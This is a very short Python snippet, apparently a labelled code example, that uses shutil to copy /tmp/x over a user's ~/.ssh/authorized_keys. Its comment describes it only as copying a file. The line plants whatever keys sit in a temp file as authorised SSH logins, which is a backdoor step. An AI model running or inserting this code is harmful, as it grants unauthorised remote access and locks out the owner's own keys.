# why: copies a file over another
import shutil
shutil.copyfile("/tmp/x", "/home/user/.ssh/authorized_keys")
